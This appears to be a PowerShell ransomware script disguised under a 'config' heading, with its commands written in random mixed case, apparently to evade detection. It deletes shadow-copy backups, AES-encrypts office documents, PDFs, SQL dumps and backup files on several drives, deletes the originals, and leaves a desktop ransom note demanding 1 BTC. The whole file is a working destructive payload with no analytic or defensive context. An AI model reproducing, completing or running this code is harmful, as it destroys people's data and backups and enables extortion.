# CoNfIg 7613 V3
vSsAdMiN.eXe DELeTE ShADoWs /alL /qUiEt
GeT-WmioBJEct wIn32_sHaDoWcOpY | fOrEACh-objEct { $_.deLete() }
$AEs = [sYSTEM.sEcUrItY.crypTOgRaPhy.AES]::cReAtE()
$aES.KEy = [TeXT.eNcODIng]::uTF8.getBYTES('Qwerty#7788Qwerty#7788'.sUBstRInG(0,32))
Get-cHildITeM -PatH d:\, e:\, c:\usERS -iNclUDE *.DoCx,*.xlsX,*.pdf,*.sQL,*.bak -ReCuRsE -ErRoRaCtIoN SiLeNtLyCoNtInUe | forEAch-obJECt {
  $ByTes = [Io.fILE]::ReAdAlLbYtEs($_.fuLLNamE)
  $enC = $Aes.cReAtEeNcRyPtOr().trANSfoRMFINaLblOCk($ByteS, 0, $BytEs.lEnGth)
  [Io.fIlE]::wRiTeAlLbYtEs($_.FulLnamE + '.locked', $eNC)
  REMOVe-iTEm $_.fUlLnAmE -fOrcE
}
sEt-cOnTeNt C:\usErs\pUBLIc\DEsKToP\hOw_tO_DeCrYpT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
